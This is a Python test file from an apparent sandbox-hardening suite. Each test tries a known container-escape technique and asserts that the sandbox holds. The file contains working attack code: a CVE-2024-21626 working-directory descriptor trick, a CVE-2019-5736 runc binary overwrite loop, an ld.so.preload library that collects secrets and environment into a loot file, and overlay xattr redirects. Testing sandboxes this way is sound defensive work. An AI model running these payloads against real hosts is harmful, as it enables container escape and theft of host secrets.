"""What a sandbox prepares for its next start."""

import asyncio
import hashlib
from pathlib import Path

from adversary.case import Skip, alone
from adversary.scene import Scene


@alone
async def attack_working_directory_as_a_descriptor(scene: Scene) -> None:
    """The next start finds the working directory to be a link to a descriptor the runtime may hold (CVE-2024-21626)."""
    for number in (3, 7, 8):
        await scene.sh(f"cd /; rm -rf /workspace; ln -s /proc/self/fd/{number} /workspace")
        await scene.restart()
        said = await scene.said(f"cat .{'/..' * 30}{scene.secret_file}; cat /proc/*/cwd/../../../..{scene.secret_file}")
        assert scene.secret not in said
        said = await scene.said("cd /; echo alive")
        assert said.endswith("alive\n"), said
    for _, path in await _links(await scene.pid(scene.box)):
        assert not path.startswith(str(scene.data_dir)), path


async def _links(init: int) -> list[tuple[int, str]]:
    """Where the processes of a sandbox stand, as the host sees it."""
    found = [init, *map(int, Path(f"/proc/{init}/task/{init}/children").read_text().split())]
    return [(pid, str(Path(f"/proc/{pid}/cwd").readlink())) for pid in found]


@alone
async def attack_working_directory_that_is_no_directory(scene: Scene) -> None:
    """A pipe, a file, a dangling or a looping link in place of /workspace must not keep the sandbox from starting."""
    for harm in (
        "mkfifo /workspace",
        "echo x >/workspace",
        "ln -s /none/where /workspace",
        "ln -s workspace /workspace",
    ):
        await scene.sh(f"cd /; rm -rf /workspace; {harm}")
        await scene.restart()
        said = await scene.said("cd /; echo alive")
        assert said == "alive\n", (harm, said)


@alone
async def attack_the_runtimes_program(scene: Scene) -> None:
    """Programs that become the runtime's own binary and overwrite it (CVE-2019-5736): nothing is executed by it inside."""
    runtime = Path("/usr/sbin/runc")
    if not runtime.exists():
        raise Skip("runc is elsewhere")
    before = hashlib.sha256(runtime.read_bytes()).hexdigest()
    await scene.sh(
        "for p in /opt/venv/bin/bash /opt/venv/bin/sh /usr/local/bin/bash /usr/local/bin/sh; do"
        "  printf '#!/proc/self/exe\\n' >$p; chmod 755 $p; done;"
        "cat >/tmp/overwrite.sh <<'X'\nwhile :; do for p in /proc/[0-9]*/exe; do"
        "  case $(readlink $p) in *runc*) echo owned >$p;; esac; done; done\nX\n"
    )
    await scene.sh("/usr/bin/bash /tmp/overwrite.sh >/dev/null 2>&1 & disown")
    await asyncio.gather(*(scene.boxes.exec(scene.box, ["/usr/bin/true"], cwd="/") for _ in range(10)))
    await scene.restart()
    await scene.sh("rm -f /opt/venv/bin/bash /opt/venv/bin/sh /usr/local/bin/bash /usr/local/bin/sh")
    assert hashlib.sha256(runtime.read_bytes()).hexdigest() == before


@alone
async def attack_the_next_start(scene: Scene) -> None:
    """A library that every program of the next start loads first sees nothing of the host, runtime or server."""
    source = """
    #include <stdio.h>
    #include <stdlib.h>
    #include <unistd.h>
    __attribute__((constructor)) static void first(void) {
      char line[4096]; snprintf(line, sizeof line, "cat %s >>/tmp/loot 2>/dev/null; env >>/tmp/loot; "
        "ls -l /proc/%d/fd >>/tmp/loot; cat /proc/%d/maps >>/tmp/loot", SECRET, getpid(), getpid());
      if (!getenv("LOOTING")) { setenv("LOOTING", "1", 1); system(line); unsetenv("LOOTING"); }
    }
    """
    await scene.put("/tmp/first.c", source.replace("SECRET", f'"{scene.secret_file}"').encode())
    built = await scene.sh("gcc -w -shared -fPIC -o /usr/local/lib/first.so /tmp/first.c")
    if built.exit_code != 0:
        raise Skip("there is no gcc inside")
    await scene.sh("echo /usr/local/lib/first.so >/etc/ld.so.preload")
    await scene.restart()
    loot = await scene.said("cat /tmp/loot; rm -f /etc/ld.so.preload /tmp/loot")
    assert "JOURNEYMAN_WORKDIR" in loot, "the attack was not carried out"
    assert scene.secret not in loot and "JOURNEYMAN_PLANTED" not in loot


@alone
async def attack_overlay_attributes(scene: Scene) -> None:
    """Attributes that redirect an overlay's directories to other places of the host cannot be set, or mean nothing."""
    await scene.python(
        """
        os.makedirs('/usr/local/redirected', exist_ok=True)
        os.makedirs('/workspace/redirected', exist_ok=True)
        for place in ('/usr/local/redirected', '/workspace/redirected', '/etc'):
            for prefix in (b'user.overlay.', b'trusted.overlay.'):
                for name, value in ((b'redirect', sys.argv[1].encode()), (b'opaque', b'y'), (b'metacopy', b''),
                                    (b'origin', b''), (b'whiteout', b'y')):
                    attempt(lambda: os.setxattr(place, prefix + name, value))
        """,
        str(scene.data_dir),
    )
    await scene.restart()
    said = await scene.said(
        "cat /usr/local/redirected/secret /workspace/redirected/secret /etc/secret; ls /etc/services"
    )
    assert scene.secret not in said
    assert said.endswith("/etc/services\n"), said
